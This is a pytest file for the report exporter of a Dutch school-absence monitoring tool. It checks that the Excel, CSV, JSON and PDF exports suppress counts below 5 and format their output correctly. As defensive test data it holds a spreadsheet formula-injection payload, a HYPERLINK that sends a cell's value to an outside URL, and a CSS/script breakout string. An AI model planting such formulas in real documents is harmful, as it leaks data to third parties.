# SPDX-License-Identifier: EUPL-1.2
"""The exports of a report: every one suppresses small numbers itself, even when handed the
exact report; Excel keeps numbers as numbers, text is escaped against formula injection, the
PDF is tagged and shows "< 5" where the exact report has 3."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from dataclasses import replace

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from pypdf import PdfReader

from binnenboord.monitoring import exporteren
from binnenboord.monitoring.rapport import BESCHERMEND, ONDERDRUKT, Cel, Kolom, Rapport
from tests.monitoring.voorbeeld import voorbeeldrapport

INJECTIE = '=HYPERLINK("https://example.org/?q="&A1,"klik")'

# what a hidden count reads as: small, or hidden to protect a small one
VERBORGEN = (ONDERDRUKT, BESCHERMEND)


def _met_injectie() -> Rapport:
    """The voorbeeld report with a formula as a row label (say, a school's name)."""
    rapport = voorbeeldrapport()
    sectie = rapport.secties[0]
    tabel = sectie.tabellen[0]
    rijen = (replace(tabel.rijen[0], label=INJECTIE), *tabel.rijen[1:])
    tabel = replace(tabel, rijen=rijen)
    return replace(rapport, secties=(replace(sectie, tabellen=(tabel,)), *rapport.secties[1:]))


def _aantalkolommen() -> dict[str, set[str]]:
    """Per table title: the labels of its count columns (where nothing below 5 may show)."""
    return {
        t.titel: {k.label for k in t.kolommen if k.soort == "aantal"}
        for t in voorbeeldrapport().tabellen()
    }


# --- file name -------------------------------------------------------------------------------


def test_de_bestandsnaam_zegt_wat_het_rapport_is() -> None:
    rapport = voorbeeldrapport()

    assert exporteren.bestandsnaam(rapport, "xlsx") == (
        "binnenboord-maandrapportage-gemeente-0363-2026-10-01-2026-10-31.xlsx"
    )
    jaar = replace(rapport, soort="jaar", scope=replace(rapport.scope, soort="gebied"))
    jaar = replace(jaar, scope=replace(jaar.scope, code="0363:1020-1039"))
    assert exporteren.bestandsnaam(jaar, "pdf") == (
        "binnenboord-jaarverslag-gebied-0363-1020-1039-2026-10-01-2026-10-31.pdf"
    )


# --- Excel -----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def werkboek() -> Iterator[object]:
    yield load_workbook(io.BytesIO(exporteren.als_xlsx(_met_injectie())))


def _blad(werkboek: object, titel_begin: str) -> Worksheet:
    bladen = [b for b in werkboek.worksheets if b.title.startswith(titel_begin)]  # type: ignore[attr-defined]
    assert len(bladen) == 1
    blad: Worksheet = bladen[0]
    return blad


def test_xlsx_heeft_een_voorblad_en_een_blad_per_tabel(werkboek: object) -> None:
    namen = werkboek.sheetnames  # type: ignore[attr-defined]

    # short, whole names (issue 17): not a title cut off at Excel's 31 characters
    assert namen == [
        "Rapport",
        "Thuiszitters per categorie",
        "Tijd tot aanbod (Kaplan-Meier)",
    ]
    voorblad = werkboek["Rapport"]  # type: ignore[index]
    waarden = [c for rij in voorblad.iter_rows(values_only=True) for c in rij if c]
    assert waarden[0] == "Maandrapportage"
    assert {"oktober 2026", "Gemeente Demodam", "31-10-2026"} <= set(waarden)
    # no internal code anywhere (issue 17)
    assert not any(isinstance(w, str) and "gemeente:" in w for w in waarden)
    assert any(isinstance(w, str) and '"< 5"' in w for w in waarden)


def test_xlsx_houdt_getallen_als_getallen_en_toont_lt_5_voor_de_3(werkboek: object) -> None:
    categorie = _blad(werkboek, "Thuiszitters")
    km = _blad(werkboek, "Tijd tot")

    assert categorie["A1"].value == "Thuiszitters op de peildatum naar categorie"
    assert [c.value for c in categorie[3]] == [None, "Aantal"]
    assert categorie["B3"].font.bold
    # the voorbeeld has 3 pupils in absoluut verzuim: "< 5" as text
    assert categorie["B4"].value == ONDERDRUKT
    assert categorie["B6"].value == 15 and categorie["B6"].font.bold
    assert km["C4"].value == 20 and isinstance(km["C4"].value, int)
    assert km["D5"].value == pytest.approx(0.7) and km["D5"].number_format == "0.0%"
    assert km["C7"].value == ONDERDRUKT and km["D7"].value == "n " + ONDERDRUKT
    assert km.column_dimensions["A"].width >= 10


def test_xlsx_maakt_een_formule_in_een_label_onschadelijk(werkboek: object) -> None:
    categorie = _blad(werkboek, "Thuiszitters")

    assert categorie["A4"].value == "'" + INJECTIE
    assert categorie["A4"].data_type == "s"
    for blad in werkboek.worksheets:  # type: ignore[attr-defined]
        for rij in blad.iter_rows():
            assert all(c.data_type != "f" for c in rij)


def test_xlsx_van_een_niet_onderdrukt_rapport_heeft_geen_aantal_onder_5(werkboek: object) -> None:
    tellers = _aantalkolommen()
    gezien = 0
    for blad in werkboek.worksheets[1:]:  # type: ignore[attr-defined]
        kop = [c.value for c in blad[3]]
        aantal = {i for i, label in enumerate(kop) if label in tellers[blad["A1"].value]}
        for rij in blad.iter_rows(min_row=4, values_only=True):
            for i in aantal:
                gezien += 1
                assert rij[i] in VERBORGEN or (isinstance(rij[i], int) and rij[i] >= 5)
    assert gezien == 3 + 4


def test_bladnamen_zijn_geldig_en_uniek() -> None:
    bezet = {"rapport", "history"}

    namen = [
        exporteren._bladnaam(titel, bezet)
        for titel in ("Per school: [VO]/VSO?", "rapport", "x" * 40, "x" * 40, "'quote'", "")
    ]

    assert namen[0] == "Per school   VO  VSO"
    assert namen[1] == "rapport (2)"
    assert namen[2] == "x" * 31 and namen[3] == "x" * 27 + " (2)"
    assert namen[4] == "quote"
    assert all(len(n) <= 31 and not re.search(r"[\[\]:*?/\\]", n) for n in namen)
    assert len({n.lower() for n in namen}) == len(namen)


# --- CSV and JSON ----------------------------------------------------------------------------


def test_csv_is_een_lange_tabel_met_lt_5_en_onschadelijke_tekst() -> None:
    inhoud = exporteren.als_csv(_met_injectie())

    assert inhoud.startswith(b"\xef\xbb\xbf")
    rijen = list(csv.reader(io.StringIO(inhoud.decode("utf-8-sig")), delimiter=";"))
    assert rijen[0] == ["sectie", "tabel", "rij", "kolom", "waarde"]
    assert len(rijen) == 1 + 3 + 4 * 3
    assert rijen[1] == [
        "Thuiszitters",
        "Thuiszitters op de peildatum naar categorie",
        "'" + INJECTIE,
        "Aantal",
        ONDERDRUKT,
    ]
    assert rijen[8][:3] == ["Doorlooptijd", "Tijd tot passend aanbod (Kaplan–Meier)", "4 weken"]
    assert rijen[9][3:] == ["Aandeel nog zonder aanbod", "0,7"]
    tellers = _aantalkolommen()
    for _sectie, tabel, _rij, kolom, waarde in rijen[1:]:
        if kolom in tellers[tabel]:
            assert waarde in VERBORGEN or int(waarde) >= 5


def _waarden(gegevens: object) -> Iterator[tuple[str, object]]:
    """Every (column kind, value) in the JSON."""
    assert isinstance(gegevens, dict)
    for sectie in gegevens["secties"]:
        for tabel in sectie["tabellen"]:
            soorten = {k["sleutel"]: k["soort"] for k in tabel["kolommen"]}
            for rij in tabel["rijen"]:
                for sleutel, waarde in rij["waarden"].items():
                    yield soorten[sleutel], waarde


def test_json_van_een_niet_onderdrukt_rapport_heeft_geen_aantal_onder_5_en_geen_ids() -> None:
    inhoud = exporteren.als_json(voorbeeldrapport())

    gegevens = json.loads(inhoud)
    assert gegevens["kleine_aantallen_onderdrukt"] is True
    assert "ids" not in inhoud.decode()
    aantallen = [w for soort, w in _waarden(gegevens) if soort == "aantal"]
    assert ONDERDRUKT in aantallen and 3 not in aantallen
    assert all(w in VERBORGEN or (isinstance(w, int) and w >= 5) for w in aantallen)
    assert "Kaplan–Meier" in inhoud.decode()  # not \u2013: ensure_ascii off


# --- PDF -------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def pdf() -> bytes:
    return exporteren.als_pdf(voorbeeldrapport())


def test_de_pdf_toont_het_rapport_met_lt_5_in_plaats_van_de_3(pdf: bytes) -> None:
    lezer = PdfReader(io.BytesIO(pdf))
    tekst = "\n".join(p.extract_text() for p in lezer.pages)

    assert tekst.startswith("Maandrapportage")
    for kop in (
        "Thuiszitters",
        "Thuiszitters op de peildatum naar categorie",
        "Doorlooptijd",
        "Tijd tot passend aanbod (Kaplan–Meier)",
        "Nog zonder aanbod in beeld",
        "oktober 2026",
        "Gemeente Demodam",
    ):
        assert kop in tekst
    assert "gemeente:0363" not in tekst
    assert re.search(r"Absoluut verzuim < 5", tekst)
    assert not re.search(r"Absoluut verzuim\s+3\b", tekst)
    # the bar chart (page 1) has both its bars hidden ("< 5" and the "x" protecting it): it
    # says so instead of drawing an empty frame (issue 17)
    eerste = " ".join(lezer.pages[0].extract_text().split())
    assert "Thuiszitters naar categorie" in eerste
    assert "Te weinig gegevens om te tonen: alle waarden zijn kleiner dan 5" in eerste
    assert "26 weken 26 < 5 n < 5" in tekst
    assert f"1 / {len(lezer.pages)}" in tekst
    # the suppression note under the header and in the footer of every page
    assert tekst.count(exporteren.onderdrukkingsnoot()[:40]) == 1 + len(lezer.pages)


def test_de_pdf_is_getagd_met_een_taal_en_een_titel(pdf: bytes) -> None:
    lezer = PdfReader(io.BytesIO(pdf))
    catalogus = lezer.trailer["/Root"]

    assert catalogus["/MarkInfo"]["/Marked"].value is True
    assert "/StructTreeRoot" in catalogus
    assert catalogus["/Lang"] == "nl"
    assert lezer.metadata is not None
    assert lezer.metadata.title == "Maandrapportage · oktober 2026"


def test_voettekst_kan_zijn_css_string_niet_verlaten() -> None:
    tekst = exporteren._css_tekst('a "< 5"; } </style><script>')

    assert not re.search(r'["<>;{}]', tekst)
    assert tekst.startswith("a\\000020\\000022\\00003c")


def test_een_grafiekonderschrift_in_de_pdf_geeft_geen_getal_van_een_onderdrukte_tabel() -> None:
    context = exporteren.pdf_context(voorbeeldrapport().onderdrukt())

    blok = context["secties"][0]["blokken"][0]
    assert blok["rijen"][0]["cellen"][0]["tekst"] == ONDERDRUKT
    assert "3" not in blok["grafieken"][0]["beschrijving"]


def test_exporteer_kent_elk_formaat() -> None:
    rapport = voorbeeldrapport()

    assert exporteren.exporteer(rapport, "json") == exporteren.als_json(rapport)
    assert set(exporteren.MEDIATYPES) == set(exporteren.FORMATEN)


def test_celtekst_schrijft_getallen_op_zijn_nederlands() -> None:
    assert exporteren.celtekst(Kolom("a", "A"), Cel(12345)) == "12.345"
    assert exporteren.celtekst(Kolom("f", "F", "fractie"), Cel(0.705, n=20)) == "70,5%"
    assert exporteren.celtekst(Kolom("d", "D", "dagen"), Cel(38.25)) == "38,2"
    assert exporteren.celtekst(Kolom("a", "A"), Cel(None, onderdrukt=True)) == ONDERDRUKT
    assert exporteren.celtekst(Kolom("a", "A"), Cel(None)) == "–"
